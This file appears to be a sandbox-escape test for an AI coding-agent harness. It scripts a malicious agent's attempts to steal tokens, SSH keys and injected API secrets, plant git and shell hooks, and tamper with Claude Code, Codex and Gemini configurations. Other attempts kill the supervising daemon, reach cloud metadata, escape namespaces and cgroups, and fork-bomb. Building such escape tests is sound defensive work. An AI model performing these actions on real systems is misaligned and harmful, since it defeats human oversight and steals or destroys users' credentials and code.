import { execFileSync, spawnSync } from 'node:child_process';
import {
  appendFileSync,
  chmodSync,
  existsSync,
  linkSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { connect } from 'node:net';
import { networkInterfaces } from 'node:os';
import { join } from 'node:path';

/**
 * The attempts of a malicious agent. Each returns what it obtained, or throws. The test outside decides by the real
 * files whether an attempt succeeded; `got` only helps to understand a failure. Paths and numbers come from
 * `facts.json`, so that no attempt fails for lack of knowledge.
 */
const facts = JSON.parse(readFileSync('facts.json', 'utf8'));
const { stateDir, repository, otherWorktree, home, daemonPid, ports } = facts;

const attempts = {
  'read the operator token': () => readFileSync(join(stateDir, 'operator.token'), 'utf8'),
  'read the signing key': () => readFileSync(join(stateDir, 'key.pem'), 'utf8'),
  'read the worker token': () => readFileSync(join(stateDir, 'worker.token'), 'utf8'),
  'read the session secret': () => readFileSync(join(stateDir, 'session.secret'), 'utf8'),
  'read a launch file': () => {
    const folder = join(stateDir, 'agents', process.env.BATON_AGENT_ID);
    return readFileSync(
      join(
        folder,
        readdirSync(folder).find((name) => name.startsWith('launch-')),
      ),
      'utf8',
    );
  },
  'read the token through the root or a descriptor of another process': () => {
    const ways = readdirSync('/proc').flatMap((pid) => [
      `/proc/${pid}/root`,
      `/proc/${pid}/cwd`,
      ...(tryTo(() => readdirSync(`/proc/${pid}/fd`)) ?? []).map((fd) => `/proc/${pid}/fd/${fd}`),
    ]);
    const up = '../'.repeat(20);
    const paths = ways.flatMap((way) => [`${way}${stateDir}`, `${way}/${up}${stateDir}`]);
    return (
      paths.map((path) => tryTo(() => readFileSync(`${path}/operator.token`, 'utf8'))).find(Boolean) ?? raise('none')
    );
  },
  'become operator, forked twice, without variables': () => {
    const baton = execFileSync('which', ['baton'], QUIET).trim();
    const [said, end] = ['forked', 'forked-end'].map((name) => quote(join(process.cwd(), name)));
    // The second fork waits until all its ancestors in the session have exited.
    const orphan = `sleep 0.5; cd ${quote(repository)} || cd /; { ${quote(baton)} run hacked; echo ended with $?; } >${said} 2>&1; touch ${end}`;
    const variables = [`HOME=${home}`, `PATH=${process.env.PATH}`, `BATON_STATE_DIR=${stateDir}`];
    const fork = `(setsid sh -c ${quote(orphan)} </dev/null >/dev/null 2>&1 &)`;
    spawnSync('env', ['-i', ...variables, 'setsid', 'sh', '-c', fork]);
    const deadline = Date.now() + 8000;
    while (!existsSync('forked-end') && Date.now() < deadline)
      Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 20);
    const text = readFileSync('forked', 'utf8');
    return text.includes('ended with 0') ? text : raise(text);
  },
  'read the main checkout': () => readFileSync(join(repository, 'README.md'), 'utf8'),
  'write the main checkout': () => write(join(repository, 'hacked')),
  'change a file of the main checkout': () => write(join(repository, 'README.md')),
  'read another worktree': () => readFileSync(join(otherWorktree, 'other.txt'), 'utf8'),
  'write another worktree': () => write(join(otherWorktree, 'hacked')),
  'write .git/config': () => appendFileSync(join(repository, '.git/config'), '[core]\n\tfsmonitor = touch hacked\n'),
  'set the configuration with git': () => git('-C', repository, 'config', 'core.hooksPath', '/tmp'),
  'plant a hook': () => write(join(repository, '.git/hooks/post-merge'), '#!/bin/sh\ntouch hacked\n'),
  'write info/attributes': () => write(join(repository, '.git/info/attributes'), '* filter=hacked\n'),
  'write refs/heads/main': () => write(join(repository, '.git/refs/heads/main'), git('rev-parse', 'HEAD')),
  'move main with git': () => {
    git('commit', '--quiet', '--allow-empty', '--message', 'hacked');
    return git('update-ref', 'refs/heads/main', 'HEAD') + git('branch', '--force', 'main', 'HEAD');
  },
  'push to main': () => git('push', '--force', repository, 'HEAD:refs/heads/main'),
  'replace a commit': () => git('replace', '--force', facts.main, 'HEAD'),
  'corrupt objects': () => {
    for (const path of [...findFiles(`${repository}/.git/objects`), ...findFiles('/run/baton/objects', 4)]) {
      tryTo(() => chmodSync(path, 0o644));
      tryTo(() => writeFileSync(path, 'rubbish'));
      tryTo(() => rmSync(path));
      tryTo(() => write(join(path, '../hacked')));
    }
  },
  'put a damaged object in the place of one of the user': () => {
    const blob = git('rev-parse', `${facts.main}:README.md`).trim();
    write(join(git('rev-parse', '--git-dir').trim(), 'objects', blob.slice(0, 2), blob.slice(2)), 'rubbish');
  },
  'see processes outside': () => {
    const seen = readdirSync('/proc').filter((name) => /^\d+$/.test(name));
    const commands = seen.map((pid) => tryTo(() => readFileSync(`/proc/${pid}/cmdline`, 'utf8')) ?? '');
    return commands.find((text) => /supervisor|daemon/.test(text)) ?? raise(`${seen.length} processes`);
  },
  'kill the daemon': () => process.kill(daemonPid, 'SIGKILL'),
  'reach the daemon': async () => reach(ports.daemon),
  "reach another agent's port": async () => reach(ports.other),
  'reach cloud metadata': async () => reachAt('169.254.169.254', 80),
  'become root in a new namespace': () => execFileSync('unshare', ['-Ur', 'id', '-u'], QUIET),
  'mount something': () => execFileSync('mount', ['-t', 'tmpfs', 'tmpfs', '/mnt'], QUIET),
  'make a program that runs as its owner': () => {
    writeFileSync('suid', '#!/bin/sh\n');
    chmodSync('suid', 0o4755);
    return (statSync('suid').mode & 0o4000) !== 0 ? 'made' : raise('not made');
  },
  'link a file of the system into the worktree': () => linkSync('/etc/passwd', 'linked'),
  'inherit a descriptor': () => {
    const open = execFileSync('sh', ['-c', 'ls /proc/$$/fd'], QUIET).split(/\s+/).filter(Boolean);
    return open.some((fd) => Number(fd) > 2 && Number(fd) < 10) ? open.join(' ') : raise(open.join(' '));
  },
  'write a setting of the kernel': () => writeFileSync('/proc/sys/kernel/core_pattern', '|/tmp/hacked'),
  'leave the control group': () => {
    const own = readFileSync('/proc/self/cgroup', 'utf8').split('\n');
    const files = own.flatMap((line) => findGroupFiles(line.split(':')[1]));
    return files.some((file) => tryTo(() => writeFileSync(file, '0')) === null)
      ? 'left'
      : raise(`${files.length} files`);
  },
  'replace the session folder by a link': () => {
    renameSync('.baton/session', '.baton/moved');
    symlinkSync(home, '.baton/session');
  },
  'replace the folder above it by a link': () => {
    renameSync('.baton', 'moved');
    symlinkSync(home, '.baton');
  },
  'replace the .git file of the worktree': () => {
    rmSync('.git');
    writeFileSync('.git', `gitdir: ${repository}/.git\n`);
  },
  'plant hooks in the configuration of Claude Code': () =>
    write(join(home, '.claude/settings.json'), '{"hooks":{"Stop":[]}}'),
  'plant hooks in the configuration of Codex': () => write(join(home, '.codex/hooks.json'), '{}'),
  'plant hooks in the configuration of Gemini CLI': () => write(join(home, '.gemini/settings.json'), '{}'),
  'break the login of Claude Code': () => write(join(home, '.claude/.credentials.json'), 'rubbish'),
  'change the shell of the user': () => write(join(home, '.bashrc'), 'touch hacked\n'),
  'read a private key': () => readFileSync(join(home, '.ssh/id_ed25519'), 'utf8'),
  'find an injected secret': () => {
    const places = [
      JSON.stringify(process.env),
      ...readdirSync('/proc').flatMap((pid) => tryTo(() => readFileSync(`/proc/${pid}/environ`, 'latin1')) ?? []),
      ...readdirSync('/proc').flatMap((pid) => tryTo(() => readFileSync(`/proc/${pid}/cmdline`, 'latin1')) ?? []),
      ...[...findFiles(home, 5), ...findFiles('/run', 5)].flatMap((path) => readSmall(path) ?? []),
    ];
    return places.some((text) => text.includes(readSecret())) ? readSecret() : raise('not found');
  },
  'have the injected secret sent elsewhere': async () => {
    const base = process.env.ANTHROPIC_BASE_URL;
    if (base === undefined) return raise('there is no base URL');
    const { hostname, port, pathname } = new URL(base);
    const [at, other] = [pathname.replace(/\/$/, ''), `127.0.0.1:${ports.other}`];
    const targets = [
      `http://${other}${at}/x`,
      `${at}//${other}/x`,
      `${at}/..//${other}/x`,
      `${at}@${other}/x`,
      `//${other}${at}/x`,
    ];
    const requests = targets.map((target) => `GET ${target} HTTP/1.1\r\nhost: ${other}\r\nconnection: close\r\n\r\n`);
    const echo = `TRACE ${at}/x HTTP/1.1\r\nhost: 127.0.0.1\r\nconnection: close\r\n\r\n`;
    const ask = async (text) => reachAt(hostname, Number(port), text).catch(() => '');
    // Makes the client's request, so that the secret is in memory to be stolen.
    await ask(`GET ${at}/v1/models HTTP/1.1\r\nhost: 127.0.0.1\r\nconnection: close\r\n\r\n`);
    const answers = await Promise.all([...requests, echo].map(ask));
    writeFileSync('answers', answers.join('\n'));
    return answers.find((text) => text.includes('other\n') || text.includes(readSecret())) ?? raise('refused');
  },
  'fork without limit': () => {
    const script = 'i=0; while [ $i -lt 400 ]; do sleep 20 >/dev/null 2>&1 & i=$((i+1)); done; echo done';
    const ran = spawnSync('sh', ['-c', script], { encoding: 'utf8', timeout: 20_000 });
    return ran.stdout.includes('done') ? 'forked' : raise(ran.stderr);
  },
};

const QUIET = { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] };
const results = {};
for (const [name, attempt] of Object.entries(attempts)) {
  const begun = performance.now();
  try {
    results[name] = { worked: true, got: String((await attempt()) ?? '').slice(0, 400) };
  } catch (error) {
    results[name] = { worked: false, got: String(error?.message ?? error).slice(0, 400) };
  }
  process.stdout.write(`${Math.round(performance.now() - begun)} ms: ${name}\n`);
}
writeFileSync('attempts.json', JSON.stringify(results, null, 1));
process.stdout.write(`attempts: ${JSON.stringify(results)}\n`);

function git(...args) {
  return execFileSync('git', args, QUIET);
}

function write(path, text = 'hacked\n') {
  mkdirSync(join(path, '..'), { recursive: true });
  writeFileSync(path, text);
}

function quote(text) {
  return `'${text.replaceAll("'", "'\\''")}'`;
}

function raise(text) {
  throw new Error(text);
}

/** Returns null if the work returned nothing, undefined if it failed. */
function tryTo(work) {
  try {
    return work() ?? null;
  } catch {
    return undefined;
  }
}

/** The secret is stored reversed, so that the facts do not contain it. */
function readSecret() {
  return facts.reversedSecret.split('').toReversed().join('');
}

function readSmall(path) {
  return tryTo(() => (statSync(path).size < 1e6 ? readFileSync(path, 'latin1') : '')) ?? undefined;
}

function findFiles(folder, depth = 3) {
  const entries = tryTo(() => readdirSync(folder, { withFileTypes: true })) ?? [];
  return entries.flatMap((entry) => {
    const path = join(folder, entry.name);
    if (entry.isDirectory()) return depth > 0 ? findFiles(path, depth - 1) : [];
    return entry.isFile() ? [path] : [];
  });
}

function findGroupFiles(controller) {
  const folder = join('/sys/fs/cgroup', controller ?? '');
  return ['cgroup.procs', 'tasks', 'release_agent', 'notify_on_release', 'pids.max'].map((name) => join(folder, name));
}

/** Tries every address that may be this machine, directly and through the proxy. */
async function reach(port) {
  const own = Object.values(networkInterfaces()).flatMap((each) => each.map(({ address }) => address));
  const hosts = [
    ...new Set(['127.0.0.1', '::1', '10.0.2.2', '10.0.2.3', '192.0.2.1', '0.0.0.0', ...own, ...facts.addresses]),
  ];
  const proxy = process.env.HTTPS_PROXY ?? process.env.https_proxy;
  const direct = hosts.map(async (host) => `${host}: ${await reachAt(host, port)}`);
  const targets =
    proxy === undefined
      ? []
      : ['127.0.0.1', 'localhost', '[::1]', '[::ffff:127.0.0.1]', '0x7f000001', '127.1', ...facts.addresses];
  const indirect = targets.map(async (target) => {
    const { hostname, port: at } = new URL(proxy);
    const got = await reachAt(
      hostname,
      Number(at),
      `CONNECT ${target}:${port} HTTP/1.1\r\nhost: ${target}:${port}\r\n\r\n`,
    );
    return / 200 /.test(got) ? `by proxy: ${target}` : raise(got);
  });
  return Promise.any([...direct, ...indirect]).catch(() => raise('not reached'));
}

/** Returns a server's response until it closes the connection. */
async function reachAt(host, port, request = 'GET / HTTP/1.1\r\nhost: 127.0.0.1\r\nconnection: close\r\n\r\n') {
  return new Promise((resolve, reject) => {
    let text = '';
    const socket = connect({ host, port, timeout: 1000 });
    socket.once('connect', () => socket.write(request));
    socket.on('data', (data) => (text += data.toString('latin1')));
    socket.once('timeout', () => socket.destroy());
    socket.once('error', reject);
    socket.once('close', () => (text === '' ? reject(new Error('no answer')) : resolve(text)));
  });
}
